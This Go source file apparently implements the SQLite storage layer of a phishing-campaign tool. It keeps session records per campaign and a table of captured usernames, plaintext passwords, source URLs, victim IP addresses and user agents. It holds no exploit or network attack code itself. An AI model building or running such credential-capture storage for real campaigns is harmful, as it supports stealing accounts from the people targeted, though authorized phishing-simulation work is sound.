package store

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"time"

	_ "github.com/mattn/go-sqlite3"

	"github.com/shehryarbajwa/browserbase-control/pkg/models"
)

const schema = `
CREATE TABLE IF NOT EXISTS session_records (
	token       TEXT PRIMARY KEY,
	campaign_id TEXT NOT NULL,
	created_at  TEXT NOT NULL
);

CREATE TABLE IF NOT EXISTS captured_credentials (
	id                INTEGER PRIMARY KEY AUTOINCREMENT,
	token             TEXT NOT NULL,
	campaign_id       TEXT NOT NULL,
	email_or_username TEXT,
	password          TEXT,
	source_url        TEXT,
	capture_method    TEXT NOT NULL,
	origin_ip         TEXT,
	origin_user_agent TEXT,
	captured_at       TEXT NOT NULL
);

CREATE INDEX IF NOT EXISTS idx_captured_credentials_token ON captured_credentials(token);
`

// timeLayout is fixed width so stored timestamps sort lexically
const timeLayout = "2006-01-02T15:04:05.000000000Z07:00"

// SQLite stores records and credentials in a sqlite database file
type SQLite struct {
	db *sql.DB
}

// OpenSQLite opens (creating if needed) the database at path
func OpenSQLite(path string) (*SQLite, error) {
	db, err := sql.Open("sqlite3", path+"?_busy_timeout=5000&_journal_mode=WAL")
	if err != nil {
		return nil, fmt.Errorf("open sqlite %s: %w", path, err)
	}
	db.SetMaxOpenConns(1)

	if _, err := db.Exec(schema); err != nil {
		db.Close()
		return nil, fmt.Errorf("create schema: %w", err)
	}
	return &SQLite{db: db}, nil
}

func (s *SQLite) Close() error {
	return s.db.Close()
}

func (s *SQLite) Put(ctx context.Context, rec models.PersistedSessionRecord) (bool, error) {
	res, err := s.db.ExecContext(ctx,
		`INSERT OR IGNORE INTO session_records (token, campaign_id, created_at) VALUES (?, ?, ?)`,
		rec.SessionToken, rec.CampaignID, rec.CreatedAt.UTC().Format(timeLayout))
	if err != nil {
		return false, fmt.Errorf("insert record %s: %w", rec.SessionToken, err)
	}
	n, err := res.RowsAffected()
	if err != nil {
		return false, err
	}
	return n > 0, nil
}

func (s *SQLite) Get(ctx context.Context, token string) (models.PersistedSessionRecord, error) {
	row := s.db.QueryRowContext(ctx,
		`SELECT token, campaign_id, created_at FROM session_records WHERE token = ?`, token)

	rec, err := scanRecord(row)
	if errors.Is(err, sql.ErrNoRows) {
		return models.PersistedSessionRecord{}, ErrNotFound
	}
	return rec, err
}

func (s *SQLite) List(ctx context.Context) ([]models.PersistedSessionRecord, error) {
	rows, err := s.db.QueryContext(ctx,
		`SELECT token, campaign_id, created_at FROM session_records ORDER BY created_at`)
	if err != nil {
		return nil, fmt.Errorf("list records: %w", err)
	}
	defer rows.Close()

	var out []models.PersistedSessionRecord
	for rows.Next() {
		rec, err := scanRecord(rows)
		if err != nil {
			return nil, err
		}
		out = append(out, rec)
	}
	return out, rows.Err()
}

func (s *SQLite) SaveCredential(ctx context.Context, c models.CapturedCredential) error {
	_, err := s.db.ExecContext(ctx, `INSERT INTO captured_credentials
		(token, campaign_id, email_or_username, password, source_url, capture_method, origin_ip, origin_user_agent, captured_at)
		VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
		c.SessionToken, c.CampaignID, c.EmailOrUsername, c.Password, c.SourceURL,
		string(c.CaptureMethod), c.Origin.IP, c.Origin.UserAgent, c.Timestamp.UTC().Format(timeLayout))
	if err != nil {
		return fmt.Errorf("insert credential for %s: %w", c.SessionToken, err)
	}
	return nil
}

// Credentials returns the stored credentials of a session in capture order
func (s *SQLite) Credentials(ctx context.Context, token string) ([]models.CapturedCredential, error) {
	rows, err := s.db.QueryContext(ctx, `SELECT token, campaign_id, email_or_username, password, source_url,
		capture_method, origin_ip, origin_user_agent, captured_at
		FROM captured_credentials WHERE token = ? ORDER BY id`, token)
	if err != nil {
		return nil, fmt.Errorf("list credentials: %w", err)
	}
	defer rows.Close()

	var out []models.CapturedCredential
	for rows.Next() {
		var (
			c      models.CapturedCredential
			method string
			at     string
		)
		if err := rows.Scan(&c.SessionToken, &c.CampaignID, &c.EmailOrUsername, &c.Password, &c.SourceURL,
			&method, &c.Origin.IP, &c.Origin.UserAgent, &at); err != nil {
			return nil, err
		}
		c.CaptureMethod = models.CaptureMethod(method)
		if c.Timestamp, err = time.Parse(timeLayout, at); err != nil {
			return nil, fmt.Errorf("parse captured_at: %w", err)
		}
		out = append(out, c)
	}
	return out, rows.Err()
}

type scanner interface {
	Scan(dest ...any) error
}

func scanRecord(row scanner) (models.PersistedSessionRecord, error) {
	var (
		rec models.PersistedSessionRecord
		at  string
	)
	if err := row.Scan(&rec.SessionToken, &rec.CampaignID, &at); err != nil {
		return rec, err
	}
	t, err := time.Parse(timeLayout, at)
	if err != nil {
		return rec, fmt.Errorf("parse created_at: %w", err)
	}
	rec.CreatedAt = t
	return rec, nil
}
